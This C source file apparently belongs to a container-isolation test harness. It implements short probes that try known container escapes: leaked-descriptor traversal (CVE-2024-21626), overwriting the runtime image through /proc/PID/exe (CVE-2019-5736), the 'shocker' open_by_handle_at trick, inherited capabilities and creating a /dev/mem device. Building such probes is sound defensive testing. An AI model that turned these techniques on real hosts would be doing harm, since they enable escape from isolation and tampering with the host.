/* Files of the host: by descriptors and directories that leaked, by links, by handles, by set-user-id programs. */
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

/* Fails where the argument is not the plain file that it is on the host. */
static void look_up(const char *call, int from, const char *way, const char *secret) {
  char path[8192];
  snprintf(path, sizeof path, "%s/../../../../../../../../../../../..%s", way, secret);
  int fd = openat(from, path, O_RDONLY | O_CLOEXEC);
  tried(call, fd);
}

/* CVE-2024-21626. `leaked-directories <path>`: from the working directory and from every descriptor up to the root. */
static void leaked_directories(int argc, char **argv) {
  (void)argc;
  char here[4096];
  if (syscall(SYS_getcwd, here, sizeof here) > 0 && here[0] != '/') won("the working directory is outside of the root");
  look_up("cwd", AT_FDCWD, ".", argv[1]);
  for (int fd = 3; fd < 256; fd++)
    if (fcntl(fd, F_GETFD) != -1) look_up("descriptor", fd, ".", argv[1]);
  look_up("root", AT_FDCWD, "/proc/self/root", argv[1]);
}

static void just_won(int argc, char **argv) {
  (void)argc, (void)argv;
  won("a program of the host was executed");
}

/* CVE-2019-5736. `overwrite-helper <pid or 0> <milliseconds>`: gets hold of the image of another process, or of any
 * that comes by, waits for it to end and writes to the image. Something else is executed through a link to
 * /proc/self/exe meanwhile. */
static int grab_image(const char *pid) {
  char path[512];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  return open(path, O_PATH | O_CLOEXEC);
}

static int find_image(double end) {
  char own[16];
  snprintf(own, sizeof own, "%d", getpid());
  while (now_seconds() < end) {
    DIR *proc = opendir("/proc");
    if (!proc) broken("/proc");
    for (struct dirent *entry; (entry = readdir(proc));) {
      if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || !strcmp(entry->d_name, own)) continue;
      int fd = grab_image(entry->d_name);
      if (fd != -1) {
        closedir(proc);
        return fd;
      }
    }
    closedir(proc);
  }
  return -1;
}

static void overwrite_helper(int argc, char **argv) {
  (void)argc;
  double end = now_seconds() + (double)number(argv[2]) / 1e3;
  int image = strcmp(argv[1], "0") ? grab_image(argv[1]) : find_image(end);
  if (image == -1) {
    lost("/proc/PID/exe");
    return;
  }
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", image);
  int fd = -1;
  do {
    fd = open(path, O_WRONLY | O_CLOEXEC);
  } while (fd == -1 && errno == ETXTBSY && now_seconds() < end);
  if (fd == -1)
    lost("open the image");
  else
    tried("write to the image", write(fd, "#!", 2));
}

/* `masked <path> <word>`: a path that has been covered shows the word, or can be written to. */
static void masked(int argc, char **argv) {
  (void)argc;
  char text[4096] = "";
  int fd = open(argv[1], O_RDONLY | O_CLOEXEC);
  ssize_t size = fd == -1 ? -1 : read(fd, text, sizeof text - 1);
  if (size == -1)
    lost("read");
  else if (memmem(text, (size_t)size, argv[2], strlen(argv[2])))
    won("it can be read");
  else
    lost_with("read", "nothing of it");
  fd = open(argv[1], O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd == -1)
    lost("write");
  else
    tried("write", write(fd, "overwritten", 11));
}

/* CVE-2025-52565. The devices are what their names say, and nothing else. */
static void false_devices(int argc, char **argv) {
  (void)argc, (void)argv;
  static const struct {
    const char *path;
    unsigned major, minor;
  } devices[] = {{"/dev/null", 1, 3},   {"/dev/zero", 1, 5},    {"/dev/full", 1, 7},
                 {"/dev/random", 1, 8}, {"/dev/urandom", 1, 9}, {"/dev/tty", 5, 0}};
  for (size_t i = 0; i < sizeof devices / sizeof *devices; i++) {
    struct stat st;
    if (stat(devices[i].path, &st) == -1) broken(devices[i].path);
    if (!S_ISCHR(st.st_mode) || st.st_rdev != makedev(devices[i].major, devices[i].minor)) won(devices[i].path);
  }
  lost_with("/dev", "genuine");
  int fd = open("/dev/console", O_RDWR | O_NOCTTY | O_CLOEXEC);
  tried("/dev/console", fd);
}

/* `set-uid <program> <id>`: its file says that it runs as that id. `who-am-i <id>` is what it does. */
static void set_uid(int argc, char **argv) {
  (void)argc;
  execl(argv[1], argv[1], "who-am-i", argv[2], (char *)NULL);
  broken("execve");
}

static void who_am_i(int argc, char **argv) {
  (void)argc;
  if (geteuid() == number(argv[1])) won("it runs as its file's owner");
  lost_with("execve", "the same id");
}

/* CVE-2022-27650: any capability in any set that a program inherits. */
static void inherited_capabilities(int argc, char **argv) {
  (void)argc, (void)argv;
  struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct data[2] = {{0}, {0}};
  if (syscall(SYS_capget, &header, data) == -1) broken("capget");
  if (data[0].inheritable | data[1].inheritable) won("the inheritable set is not empty");
  if (data[0].permitted | data[1].permitted) won("the permitted set is not empty");
  lost_with("capget", "empty");
}

/* The "shocker" exploit. Inode 2 is the root of most file systems; where a file of our own has a handle it is tried
 * too, since what can be opened by its number at all can be searched. */
static void open_by_handle(int argc, char **argv) {
  (void)argc, (void)argv;
  union {
    struct file_handle handle;
    char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
  } root = {.room = {0}};
  int id;
  root.handle.handle_bytes = MAX_HANDLE_SZ;
  if (name_to_handle_at(AT_FDCWD, "/attack", &root.handle, &id, 0) == -1) {
    root.handle.handle_bytes = 8;
    root.handle.handle_type = 1; /* FILEID_INO32_GEN */
    root.handle.f_handle[0] = 2;
  }
  int mount = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (mount == -1) broken("open /");
  tried("open_by_handle_at", open_by_handle_at(mount, &root.handle, O_RDONLY));
}

/* `make-device <path>`: one that is the memory of the machine. */
static void make_device(int argc, char **argv) {
  (void)argc;
  tried("mknod", mknod(argv[1], S_IFCHR | 0666, makedev(1, 1)));
}

const struct attack file_attacks[] = {
    {"leaked-directories", 1, leaked_directories},
    {"just-won", 0, just_won},
    {"overwrite-helper", 2, overwrite_helper},
    {"masked", 2, masked},
    {"false-devices", 0, false_devices},
    {"set-uid", 2, set_uid},
    {"who-am-i", 1, who_am_i},
    {"inherited-capabilities", 0, inherited_capabilities},
    {"open-by-handle", 0, open_by_handle},
    {"make-device", 1, make_device},
    {NULL, 0, NULL},
};
